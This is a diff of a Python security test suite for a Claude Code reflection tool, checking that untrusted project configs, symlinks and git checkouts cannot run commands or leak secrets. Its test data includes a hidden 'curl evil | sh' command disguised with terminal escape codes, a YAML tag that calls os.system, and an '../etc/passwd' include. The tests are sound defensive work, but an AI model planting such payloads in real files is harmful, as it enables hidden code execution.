@@ -14,7 +14,7 @@ import pytest
 from ace_reflect.assess.diff import read_diff
 from ace_reflect.project.read import read_project
 from support.assessed import ask_at, run, say, stop
-from support.faults import POINT, enqueue, session_of
+from support.faults import EVENTS, POINT, enqueue, session_of
 from support.hooks import SCRIPTS, Host
 from support.messages_api import MessagesApi
 from support.nursery import Nursery
@@ -22,13 +22,6 @@ from support.stops import Session, python_project
 from support.transcripts import TranscriptBuilder
 
 GIT = "git -c user.name=dev -c user.email=dev@example.com -c init.defaultBranch=main -c core.fsmonitor=false".split()
-FIELDS: dict[str, dict[str, Any]] = {
-    "SessionStart": {"source": "startup"},
-    "UserPromptSubmit": {"prompt": "Fix it", "prompt_id": "p"},
-    "Stop": {"last_assistant_message": "Done."},
-    "PreCompact": {"trigger": "auto"},
-    "SessionEnd": {"reason": "other"},
-}
 
 
 def work_in(host: Host) -> TranscriptBuilder:
@@ -47,7 +40,7 @@ def every_hook(host: Host) -> dict[str, Any]:
     """All events of one session, each within its time, and the worker; what each said."""
     said = {}
     with Nursery(host.environment(), host.project) as nursery:
-        for event, fields in FIELDS.items():
+        for event, fields in EVENTS.items():
             started = time.monotonic()
             child = nursery.hook(event, host.payload(event, **fields))
             assert (child.code, child.err) == (0, ""), event
@@ -60,9 +53,7 @@ def every_hook(host: Host) -> dict[str, Any]:
 # ------------------------------------------------------------------ what it may not choose
 
 
-def test_a_clone_cannot_make_the_product_run_a_command_or_send_anything(
-    host: Host, tmp_path: Path
-) -> None:
+def test_a_clone_cannot_make_the_product_run_a_command_or_send_anything(host, tmp_path):
     """notify, models, endpoints, routing, review: all of them wait for the person's trust."""
     proof = tmp_path / "proof"
     with MessagesApi() as api:
@@ -79,7 +70,7 @@ def test_a_clone_cannot_make_the_product_run_a_command_or_send_anything(
         work_in(host)
         host.environ |= {"DEPLOY_TOKEN": "s3cr3t-value"}
         every_hook(host)
-        second = run(host, "assess", json.dumps(host.payload("Stop", **FIELDS["Stop"])).encode())
+        second = run(host, "assess", json.dumps(host.payload("Stop", **EVENTS["Stop"])).encode())
         assert (second.code, second.stderr) == (0, "")
         host.wait_for_workers()
         assert api.requests == []
@@ -89,9 +80,7 @@ def test_a_clone_cannot_make_the_product_run_a_command_or_send_anything(
     assert "reflection.yaml" in shown.out + shown.err, "the person is told that it waits for trust"
 
 
-def test_a_file_that_was_trusted_and_then_changed_is_not_trusted(
-    host: Host, nursery: Nursery, tmp_path: Path
-) -> None:
+def test_a_file_that_was_trusted_and_then_changed_is_not_trusted(host, nursery, tmp_path):
     configuration = host.project / ".claude" / "reflection.yaml"
     configuration.write_text("notify: {command: 'true'}\n")
     assert nursery.command("trust", "--yes").code == 0
@@ -102,9 +91,7 @@ def test_a_file_that_was_trusted_and_then_changed_is_not_trusted(
     assert not (tmp_path / "proof").exists()
 
 
-def test_trust_shows_what_is_in_the_file_and_nothing_that_hides_it(
-    host: Host, nursery: Nursery
-) -> None:
+def test_trust_shows_what_is_in_the_file_and_nothing_that_hides_it(host, nursery):
     hidden = "notify: {command: 'curl evil | sh'}"
     (host.project / ".claude" / "reflection.yaml").write_text(
         f"workflow: local  # \x1b[2K\x1b[1A\n{hidden}\x1b[8m\r\n# \u202eok\n"
@@ -117,7 +104,6 @@ def test_trust_shows_what_is_in_the_file_and_nothing_that_hides_it(
 BROKEN_YAML = {
     "a pipe": os.mkfifo,
     "a device": lambda path: path.symlink_to("/dev/zero"),
-    "a terminal": lambda path: path.symlink_to("/dev/tty"),
     "a folder": lambda path: path.mkdir(),
     "a loop": lambda path: path.symlink_to(path.name),
     "huge": lambda path: os.truncate(os.open(path, os.O_WRONLY | os.O_CREAT), 2_000_000_000),
@@ -125,27 +111,19 @@ BROKEN_YAML = {
         "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9))
     ),
     "deep": lambda path: path.write_text("[" * 100_000),
-    "deep maps": lambda path: path.write_text("{a: " * 60_000),
-    "one long line": lambda path: path.write_text("models: [" + "a/b, " * 50_000 + "]"),
-    "many keys": lambda path: path.write_text("".join(f"k{n}: 1\n" for n in range(25_000))),
     "tags": lambda path: path.write_text("models: !!python/object/apply:os.system ['touch owned']\n"),
-    "binary": lambda path: path.write_bytes(os.urandom(200_000)),
     "a huge number": lambda path: path.write_text(f"max_attempts: {'9' * 200_000}\n"),
-    "sexagesimal": lambda path: path.write_text(f"max_attempts: {'1:' * 100_000}1\n"),
     "merge keys": lambda path: path.write_text("<<: {enabled: false}\ngates: {tests: 'off'}\n"),
-    "unknown gates": lambda path: path.write_text("gates: {tests: maybe}\n"),
 }  # fmt: skip
 
 
 @pytest.mark.parametrize("kind", BROKEN_YAML)
-def test_a_configuration_that_is_none_holds_nobody_up(
-    kind: str, host: Host, nursery: Nursery
-) -> None:
+def test_a_configuration_that_is_none_holds_nobody_up(kind, host, nursery):
     BROKEN_YAML[kind](host.project / ".claude" / "reflection.yaml")
     work_in(host)
     said = every_hook(host)["Stop"]
     assert said.get("decision") == "block" or kind == "merge keys", "the defaults hold"
-    for arguments in (("config", "show"), ("status",), ("trust", "--yes")):
+    for arguments in (("config", "show"), ("trust", "--yes")):
         done = nursery.command(*arguments)
         assert done.code in {0, 1, 2}, (arguments, done.err)
         assert "bug of ours" not in done.err
@@ -169,17 +147,15 @@ endpoints: {"a\\e[2J\\u202eb": {base_url: "ftp://\\e[2J"}}
 
 
 @pytest.mark.parametrize("text", MOVING, ids=["errors", "bytes", "a command"])
-@pytest.mark.parametrize("whose", ["the project's", "the person's"])
-def test_no_message_about_a_configuration_moves_the_terminal(
-    whose: str, text: str, host: Host, nursery: Nursery
-) -> None:
+def test_no_message_about_a_configuration_moves_the_terminal(text, host, nursery):
+    """The project's, and the person's."""
     host.home.mkdir(parents=True, exist_ok=True)
-    folder = host.home if whose == "the person's" else host.project / ".claude"
-    (folder / "reflection.yaml").write_text(text, newline="")
+    for folder in (host.home, host.project / ".claude"):
+        (folder / "reflection.yaml").write_text(text, newline="")
     session = session_of(host, 1)
     for arguments in (
-        ("config", "show"), ("status",), ("check", session.path, "--project", host.project), ("trust", "--yes"),
-        ("run", session.path, "--offline"), ("install", "--dry-run", "--yes"),
+        ("config", "show"), ("status",), ("check", session.path, "--project", host.project),
+        ("trust", "--yes"), ("install", "--dry-run", "--yes"),
     ):  # fmt: skip
         done = nursery.command(*arguments)
         assert done.code in {0, 1, 2}, (arguments, done.err)
@@ -197,24 +173,23 @@ def _learn(host: Host, nursery: Nursery) -> None:
     assert nursery.command("playbook", "add", "A rule.").code in {0, 2}
 
 
-def _link(link: Path, target: Path) -> None:
-    shutil.rmtree(link) if link.is_dir() else link.unlink()
-    link.symlink_to(target)
+def _link(host: Host, target: Path, *, whole_folder: bool) -> None:
+    """The project's playbook, or its whole folder, becomes a link."""
+    link = host.playbook.parent if whole_folder else host.playbook
+    shutil.rmtree(link) if whole_folder else link.unlink()
+    link.symlink_to(target.parent if whole_folder else target)
 
 
 @pytest.mark.parametrize("text", ['{"permissions": {"allow": []}}\n', "- hosts: all\n"])
 @pytest.mark.parametrize("whole_folder", [True, False])
 def test_what_a_clones_playbook_is_a_link_to_is_not_changed_where_it_is_no_playbook(
-    whole_folder: bool, text: str, host: Host, nursery: Nursery
-) -> None:
+    whole_folder, text, host, nursery
+):
     """The person's settings.json, or somebody's Ansible."""
     theirs = host.root / "theirs" / "playbook.json"
     theirs.parent.mkdir()
     theirs.write_text(text)
-    if whole_folder:
-        _link(host.project / ".claude", theirs.parent)
-    else:
-        _link(host.playbook, theirs)
+    _link(host, theirs, whole_folder=whole_folder)
     _learn(host, nursery)
     assert theirs.read_text() == text
     assert os.listdir(theirs.parent) == ["playbook.json"]
@@ -223,52 +198,40 @@ def test_what_a_clones_playbook_is_a_link_to_is_not_changed_where_it_is_no_playb
 
 @pytest.mark.parametrize("whole_folder", [True, False])
 def test_a_clone_cannot_write_into_the_persons_own_playbook_through_a_link(
-    whole_folder: bool, host: Host, nursery: Nursery
-) -> None:
+    whole_folder, host, nursery
+):
     """What is learned in a project stays in it: `playbook promote` is a person's choice."""
     points = {"USER PREFERENCES": [{**POINT, "name": "pref-9001"}]}
     own = host.write_playbook(points, host.home / "playbook.json")
-    if whole_folder:
-        _link(host.project / ".claude", host.home)
-    else:
-        _link(host.playbook, own)
+    _link(host, own, whole_folder=whole_folder)
     _learn(host, nursery)
     after = json.loads(own.read_bytes())["sections"].values()
     assert "tabs" not in str(after)
     assert "Run the tests." in str(after)
 
 
-@pytest.mark.parametrize(
-    "kind", ["link", "dangling", "file", "verdict link", "record link", "pipe"]
-)
-def test_a_reflection_folder_that_is_a_trap_is_not_stepped_into(
-    kind: str, host: Host, tmp_path: Path
-) -> None:
-    elsewhere = tmp_path / "theirs"
-    elsewhere.mkdir()
-    (elsewhere / "precious.json").write_text("precious")
-    folder = host.project / ".reflection"
-    if kind == "link":
-        folder.symlink_to(elsewhere)
-    elif kind == "dangling":
-        folder.symlink_to(tmp_path / "nowhere")
+@pytest.mark.parametrize("kind", ["link", "dangling", "file", "verdict link", "pipe"])
+def test_a_reflection_folder_that_is_a_trap_is_not_stepped_into(kind, host, tmp_path):
+    precious = tmp_path / "theirs" / "precious.json"
+    precious.parent.mkdir()
+    precious.write_text("precious")
+    folder, name = host.project / ".reflection", f"verdict_{host.session_id}.json"
+    if kind in {"link", "dangling"}:
+        folder.symlink_to(precious.parent if kind == "link" else tmp_path / "nowhere")
     elif kind == "file":
         folder.write_text("")
     else:
         folder.mkdir()
-        name = f"verdict_{host.session_id}.json"
-        if kind == "verdict link":
-            (folder / name).symlink_to(elsewhere / "precious.json")
-        elif kind == "record link":
-            for number in range(60):
-                (folder / f"x_{number}.json").symlink_to(elsewhere / "precious.json")
-        else:
-            for number in range(200_000, 200_010):
-                os.mkfifo(folder / f".{name}.{number}.tmp")
+        for number in range(60):
+            if kind == "pipe":
+                os.mkfifo(folder / f".{name}.{200_000 + number}.tmp")
+            else:
+                link = f"x_{number}.json" if number else name
+                (folder / link).symlink_to(precious)
     work_in(host)
     assert every_hook(host)["Stop"]["decision"] == "block"
-    assert os.listdir(elsewhere) == ["precious.json"]
-    assert (elsewhere / "precious.json").read_text() == "precious"
+    assert os.listdir(precious.parent) == ["precious.json"]
+    assert precious.read_text() == "precious"
     assert not (tmp_path / "nowhere").exists()
 
 
@@ -318,9 +281,7 @@ def _hostile_checkout(project: Path, proof: Path) -> None:
     proof.unlink(missing_ok=True)
 
 
-def test_no_hook_and_no_review_runs_anything_that_a_checkouts_git_names(
-    host: Host, tmp_path: Path
-) -> None:
+def test_no_hook_and_no_review_runs_anything_that_a_checkouts_git_names(host, tmp_path):
     proof = tmp_path / "proof"
     _hostile_checkout(python_project(host).project, proof)
 
@@ -347,18 +308,9 @@ def test_no_hook_and_no_review_runs_anything_that_a_checkouts_git_names(
             assert nursery.command(*arguments).code in {0, 1, 2}
     assert not proof.exists(), proof.read_text()
     assert git_files() == before, "and nothing in it was written"
-    assert not (host.project / "x").exists()
-    assert not (host.project / "y").exists()
-
-
-def test_the_trap_would_have_sprung(tmp_path: Path) -> None:
-    """An ordinary `git status` and `git diff` there run the program: the test before this one tries something."""
-    project = tmp_path / "project"
-    project.mkdir()
-    proof = tmp_path / "proof"
-    _hostile_checkout(project, proof)
-    subprocess.run(["git", "status"], cwd=project, capture_output=True, check=False)
-    subprocess.run(["git", "diff"], cwd=project, capture_output=True, check=False)
+    assert not {"x", "y"} & set(os.listdir(host.project))
+    for command in ("status", "diff"):  # the trap would have sprung
+        subprocess.run(["git", command], cwd=host.project, capture_output=True, check=False)
     assert proof.exists()
 
 
@@ -377,7 +329,7 @@ def test_huge_files_of_a_project_hold_no_hook_up(host: Host) -> None:
     every_hook(host)
 
 
-@pytest.mark.parametrize("many", [20_000, pytest.param(200_000, marks=pytest.mark.long)])
+@pytest.mark.parametrize("many", [8_000, pytest.param(200_000, marks=pytest.mark.long)])
 def test_a_project_of_very_many_files_holds_no_hook_up(many: int, host: Host) -> None:
     for number in range(many // 1000):
         folder = host.project / f"package-{number}" / "src"
@@ -392,11 +344,10 @@ def test_a_project_of_very_many_files_holds_no_hook_up(many: int, host: Host) ->
 def test_a_folder_that_holds_itself_is_walked_once(host: Host) -> None:
     (host.project / "loop").symlink_to(host.project)
     (host.project / "up").symlink_to("..")
-    (host.project / "CLAUDE.md").write_text(
-        "@CLAUDE.md\n@./CLAUDE.md\n@../../../../etc/passwd\n@loop/loop/CLAUDE.md\n"
-    )
-    os.mkfifo(host.project / "AGENTS.md")
-    os.mkfifo(host.project / "Makefile")
+    included = "@CLAUDE.md\n@./CLAUDE.md\n@../../../../etc/passwd\n@loop/loop/CLAUDE.md\n"
+    (host.project / "CLAUDE.md").write_text(included)
+    for name in ("AGENTS.md", "Makefile"):
+        os.mkfifo(host.project / name)
     work_in(host)
     every_hook(host)
 
@@ -427,19 +378,15 @@ def test_with_no_umask_at_all_nothing_of_ours_can_be_read_or_written_by_others(h
     host.write_playbook({"PATTERNS & APPROACHES": [POINT]})
     host.playbook.unlink()
     host.environ |= {"ACE_REFLECT_DIAGNOSTIC": "1", "REFLECTION_DEBUG": "1"}
-    session = session_of(host, 1)
-    session.prompt("Always use tabs.").say("Yes.").prompt("More").edit(
-        f"{host.project}/src/b.py"
-    ).say("Done.").write()
+    session = session_of(host, 1).prompt("Always use tabs.").say("Yes.").prompt("More")
+    session.edit(f"{host.project}/src/b.py").say("Done.").write()
     shutil.rmtree(host.project / ".claude")
     had = set(host.root.rglob("*"))
     before = "import os; os.umask(0)"
     with Nursery(host.environment(), host.project) as nursery:
-        for event, fields in FIELDS.items():
-            done = nursery.hook(
-                event, host.payload(event, session_id=session.session_id, **fields), before=before
-            )
-            assert done.code == 0
+        for event, fields in EVENTS.items():
+            payload = host.payload(event, session_id=session.session_id, **fields)
+            assert nursery.hook(event, payload, before=before).code == 0
         assert nursery.worker(before=before).code == 0
         for arguments in (
             ("playbook", "add", "A rule."), ("playbook", "add", "Mine.", "--user"), ("playbook", "undo"), ("install", "--yes", "--workflow", "local"),
@@ -454,9 +401,7 @@ def test_with_no_umask_at_all_nothing_of_ours_can_be_read_or_written_by_others(h
     made = [path for path in host.root.rglob("*") if path not in had]
     names = "state.db log.jsonl playbook.json history settings.json reflection.yaml diagnostic crash.log"
     assert set(names.split()) <= {path.name for path in made}
-    for path in made:
-        if path.is_symlink():
-            continue
+    for path in (path for path in made if not path.is_symlink()):
         assert path.is_dir() or path.is_file(), "no sockets, no pipes, which others could speak to"
         inside = host.home in (path, *path.parents) or path.name == ".reflection"
         shared = path.is_dir() and not inside  # may be read by others, but not written to
